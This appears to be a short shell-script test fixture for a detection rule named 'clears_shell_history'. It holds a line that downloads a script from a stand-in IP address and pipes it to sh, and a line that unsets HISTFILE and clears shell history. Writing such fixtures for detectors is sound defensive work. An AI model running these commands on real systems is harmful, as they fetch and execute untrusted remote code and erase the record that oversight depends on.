#!/bin/sh
curl -s http://203.0.113.7/i | sh
# ruleid: clears_shell_history
unset HISTFILE; history -c
